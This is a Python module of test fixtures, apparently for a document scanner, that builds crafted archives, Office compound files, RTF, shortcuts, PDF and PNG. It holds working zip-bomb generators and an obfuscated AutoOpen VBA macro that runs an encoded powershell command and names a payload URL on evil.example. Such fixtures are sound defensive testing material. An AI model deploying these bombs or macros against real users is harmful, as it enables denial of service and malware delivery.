"""Documents made for the test: archives, compound files with macros, rich text, PDF, shortcuts."""
import io
import lzma
import random
import struct
import zipfile
import zlib

PROGRAM = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200)


# ---- archives ----

def zipped(files, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in files.items():
            z.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data, method)
    return out.getvalue()


def local_head(name, method, flags, crc, packed, size):
    return b"PK\3\4" + struct.pack("<HHHHHIIIHH", 20, flags, method, 0, 0x5821, crc, packed, size, len(name), 0) + name


def central_head(name, method, flags, crc, packed, size, offset):
    return b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, flags, method, 0, 0x5821, crc, packed, size,
                                   len(name), 0, 0, 0, 0, 0, offset) + name


def zip_end(count, size, offset):
    return b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count, count, size, offset, 0)


def zip_of(entries, hidden=()):
    """Stored entries (name, data, flags); `hidden` ones have no line in the directory."""
    body, directory, count = b"", b"", 0
    for name, data, flags in entries:
        head = local_head(name, 0, flags, zlib.crc32(data), len(data), len(data))
        if name not in hidden:
            directory += central_head(name, 0, flags, zlib.crc32(data), len(data), len(data), len(body))
            count += 1
        body += head + data
    return body + directory + zip_end(count, len(directory), len(body))


def overlapping_bomb(count, kernel_bytes):
    """Many entries of one and the same packed run: each head has the next ones as its extra field
    (after Fifield's, "A better zip bomb")."""
    data = bytes(kernel_bytes)
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = pack.compress(data) + pack.flush()
    heads = b""
    starts = []
    for i in reversed(range(count)):
        extra = struct.pack("<HH", 0x9999, len(heads)) + heads if heads else b""
        name = b"%04d" % i
        head = local_head(name, 8, 0, zlib.crc32(data), len(packed), len(data))
        heads = head[:28] + struct.pack("<H", len(extra)) + name + extra
        starts.append(len(heads))
    body = heads + packed
    directory = b"".join(central_head(b"%04d" % (count - 1 - i), 8, 0, zlib.crc32(data), len(packed), len(data),
                                      len(heads) - start) for i, start in enumerate(starts))
    return body + directory + zip_end(count, len(directory), len(body))


def xz_with_dictionary(data, size_code):
    """An XZ stream whose block says that it needs a dictionary of (2 | code & 1) << (code / 2 + 11) bytes."""
    packed = bytearray(lzma.compress(data, lzma.FORMAT_XZ, lzma.CHECK_CRC32))
    head_len = (packed[12] + 1) * 4
    head = packed[12:12 + head_len - 4]
    head[head.index(b"\x21\x01") + 2] = size_code
    packed[12:12 + head_len] = head + struct.pack("<I", zlib.crc32(bytes(head)))
    return bytes(packed)


def nested_bomb(levels, width, leaf_bytes):
    data = zipped({"zeros": bytes(leaf_bytes)})
    for level in range(levels):
        data = zipped({f"{level}-{i}.zip": data for i in range(width)})
    return data


def nested(depth, inside, name="in.zip"):
    data = inside
    for _ in range(depth):
        data = zipped({name: data}, zipfile.ZIP_STORED)
    return data


# ---- compound files (MS-CFB, version 3) ----

FREE, END, FAT = 0xffffffff, 0xfffffffe, 0xfffffffd


def compound(streams, clsid=bytes(16)):
    """`streams`: {"storage/name": bytes}. All streams get whole sectors (a cut-off of 0)."""
    names = [("Root Entry", 5, None, clsid)]
    storages = {"": 0}
    for path in streams:
        parts = path.split("/")
        for i in range(1, len(parts)):
            storage = "/".join(parts[:i])
            if storage not in storages:
                storages[storage] = len(names)
                names.append((parts[i - 1], 1, "/".join(parts[:i - 1]), bytes(16)))
    place = {}
    for path in streams:
        place[path] = len(names)
        names.append((path.split("/")[-1], 2, "/".join(path.split("/")[:-1]), bytes(16)))
    children = {}
    for i, (_, kind, parent, _) in enumerate(names):
        if kind != 5:
            children.setdefault(storages[parent], []).append(i)
    sectors, fat = [], []

    def add(data):
        if not data:
            return END
        first = len(sectors)
        for at in range(0, len(data), 512):
            sectors.append(data[at:at + 512].ljust(512, b"\0"))
            fat.append(len(sectors))
        fat[-1] = END
        return first

    starts = {path: add(data) for path, data in streams.items()}
    entries = b""
    for i, (name, kind, _, cls) in enumerate(names):
        # siblings as a list to the right: no balance, but a tree
        siblings = next((c for c in children.values() if i in c), [])
        right = siblings[siblings.index(i) + 1] if i in siblings and i != siblings[-1] else FREE
        child = children[i][0] if i in children else FREE
        path = next((p for p, n in place.items() if n == i), None)
        wide = name.encode("utf-16-le") + b"\0\0"
        entries += wide.ljust(64, b"\0") + struct.pack("<HBBIII", len(wide), kind, 1, FREE, right, child) + cls + \
            bytes(20) + struct.pack("<IQ", starts[path] if path else END, len(streams[path]) if path else 0)
    entries += (bytes(66) + b"\0\0" + struct.pack("<III", FREE, FREE, FREE) + bytes(48)) * (-len(names) % 4)
    directory = add(entries)
    count = 0
    while count * 128 < len(fat) + count:
        count += 1
    fat_at = len(sectors)
    fat += [FAT] * count
    table = b"".join(struct.pack("<I", n) for n in fat).ljust(count * 512, b"\xff")
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3e, 3, 0xfffe, 9, 6) + bytes(10) + \
        struct.pack("<IIIIIIIII", count, directory, 0, 0, END, 0, END, 0, fat_at)
    head += b"".join(struct.pack("<I", fat_at + i) for i in range(1, count))
    return head.ljust(512, b"\xff") + b"".join(sectors) + table


def ovba(data):
    """Compress as MS-OVBA 2.4.1 says, with copies."""
    out = b"\1"
    for start in range(0, len(data), 4096):
        chunk, packed, i = data[start:start + 4096], b"", 0
        while i < len(chunk):
            flags, group = 0, b""
            for bit in range(8):
                if i >= len(chunk):
                    break
                bits = 12
                while 1 << (16 - bits) < i and bits > 4:
                    bits -= 1
                best = (0, 0)
                for distance in range(1, min(i, 1 << (16 - bits)) + 1):
                    n = 0
                    while i + n < len(chunk) and n < (1 << bits) + 2 and chunk[i + n] == chunk[i + n - distance]:
                        n += 1
                    best = max(best, (n, -distance))
                if best[0] >= 3:
                    group += struct.pack("<H", (-best[1] - 1) << bits | (best[0] - 3))
                    flags |= 1 << bit
                    i += best[0]
                else:
                    group += chunk[i:i + 1]
                    i += 1
            packed += bytes([flags]) + group
        out += struct.pack("<H", 0xb000 | (len(packed) - 1)) + packed
    return out


def record(number, data):
    return struct.pack("<HI", number, len(data)) + data


def vba_project(source, prefix=b"", offset=37, broken_dir=False):
    """The streams of a project with one module, its text behind `offset` bytes of other things."""
    directory = record(1, struct.pack("<I", 1)) + struct.pack("<HIIH", 9, 4, 1, 1) + record(0x0f, b"\1\0") + \
        record(0x19, b"Module1") + record(0x1a, b"Module1") + record(0x32, "Module1".encode("utf-16-le")) + \
        record(0x31, struct.pack("<I", offset)) + record(0x2b, b"") + record(0x10, b"")
    text = b"Attribute VB_Name = \"Module1\"\r\n" + source
    root = prefix + ("/" if prefix else "") if isinstance(prefix, str) else ""
    return {root + "VBA/dir": b"\1\2\3" if broken_dir else ovba(directory),
            root + "VBA/Module1": bytes(offset) + ovba(text), root + "VBA/_VBA_PROJECT": b"\xcc\x61" + bytes(20)}


MACRO = b"""Sub AutoOpen()
  Dim s As String
  s = "po" & "wers" & _
    "hell -enc AAAA"
  CreateObject("WScript.Sh" + "ell").Run s
  x = "http://evil.example/pay" & "load.exe"
End Sub
"""


def package(name, data):
    """An Ole10Native stream."""
    inside = b"\2\0" + name + b"\0" + b"C:\\x\\" + name + b"\0" + b"\0\0\3\0" + struct.pack("<I", 5) + b"C:\\x\0" + \
        struct.pack("<I", len(data)) + data
    return struct.pack("<I", len(inside)) + inside


# ---- new Office documents ----

RELATIONS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relation(kind, target, external=True):
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="r1" Type="{KIND}{kind}" Target="{target}"{mode}/>'


def docx(parts):
    files = {"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS % relation("officeDocument", "word/document.xml", False),
             "word/document.xml": "<?xml version='1.0'?><w:document/>"}
    files.update(parts)
    return zipped(files)


# ---- rich text, shortcuts, winmail.dat ----

def ole1(kind, data):
    return struct.pack("<II", 0x501, 2) + struct.pack("<I", len(kind) + 1) + kind + b"\0" + bytes(8) + \
        struct.pack("<I", len(data)) + data


def rtf(objects, body=b""):
    text = b"{\\rtf1\\ansi " + body
    for data in objects:
        text += b"{\\object\\objemb{\\*\\objdata " + data.hex().encode() + b"}}"
    return text + b"}"


def shortcut(target, arguments):
    def text(s):
        return struct.pack("<H", len(s)) + s.encode("utf-16-le")
    head = struct.pack("<I", 0x4c) + bytes.fromhex("0114020000000000c000000000000046") + \
        struct.pack("<I", 0x08 | 0x20 | 0x80)
    return head.ljust(76, b"\0") + text(target) + text(arguments)


def winmail(name, data):
    def attribute(level, number, value):
        return bytes([level]) + struct.pack("<II", number, len(value)) + value + struct.pack("<H", sum(value) & 0xffff)
    return struct.pack("<IH", 0x223e9f78, 1) + attribute(1, 0x89006, struct.pack("<I", 0x10000)) + \
        attribute(2, 0x69002, bytes(14)) + attribute(2, 0x18010, name + b"\0") + attribute(2, 0x6800f, data)


def onenote(data):
    return bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1000) + \
        bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<Q", len(data)) + bytes(12) + data + bytes(50)


# ---- PDF ----

def stream(dictionary, data):
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def pdf(objects, trailer=b""):
    out = b"%PDF-1.7\n"
    for i, data in enumerate(objects, 1):
        out += b"%d 0 obj\n%s\nendobj\n" % (i, data)
    return out + b"trailer <</Root 1 0 R %s>>\n%%%%EOF\n" % trailer


def flate(data):
    return zlib.compress(data, 9)


# ---- pictures ----

def png(width, height, rows):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)) + \
        chunk(b"IDAT", zlib.compress(b"".join(b"\0" + r for r in rows), 9)) + chunk(b"IEND", b"")


def mess(count, seed=1):
    return random.Random(seed).randbytes(count)
